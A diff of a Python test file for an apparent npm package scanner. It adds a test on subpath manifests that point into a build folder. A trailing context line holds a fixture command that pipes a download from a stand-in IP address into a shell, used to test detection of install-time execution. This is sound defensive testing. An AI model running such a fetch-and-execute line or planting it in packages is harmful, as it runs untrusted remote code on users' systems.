@@ -264,6 +264,30 @@ def test_a_package_emptied_of_its_code_is_reported_as_sabotage(tmp_path: Path) -
     assert findings(run_exam(data_only, ONLY_BEHAVIOUR), "sab-package-without-code") == []
 
 
+def test_a_subpath_manifest_pointing_into_the_build_is_no_empty_package(tmp_path: Path) -> None:
+    """@reduxjs/toolkit 2's query/react/package.json only points into ../../dist: Node resolves
+    the subpath there, so that folder ships no code of its own and is no emptied package. A
+    subpath manifest naming a file that is not shipped is still one."""
+    proxy = json.dumps(
+        {"name": "@reduxjs/toolkit-query-react", "version": "1.0.0",
+         "main": "../../dist/query/react/cjs/index.js"}
+    )  # fmt: skip
+    files = {
+        "index.js": "module.exports = require('./dist/index.js');\n",
+        "dist/index.js": "module.exports = {};\n",
+        "dist/query/react/cjs/index.js": "module.exports = {};\n",
+        "query/react/package.json": proxy,
+    }
+    report = run_exam(npm_package(tmp_path, "toolkit", files), ONLY_BEHAVIOUR)
+    assert findings(report, "sab-package-without-code") == []
+    del files["dist/query/react/cjs/index.js"]
+    report = run_exam(npm_package(tmp_path, "toolkit-cut", files), ONLY_BEHAVIOUR)
+    [finding] = findings(report, "sab-package-without-code")
+    assert finding.location is not None
+    assert finding.location.path == "package/query/react/package.json"
+    assert finding.severity is Severity.HIGH and not report.verdict.passed
+
+
 def test_node_dot_in_an_install_hook_runs_the_main_file_at_install_time(tmp_path: Path) -> None:
     main = (
         "const { exec } = require('child_process');\nexec('curl -s http://203.0.113.7/a | sh');\n"
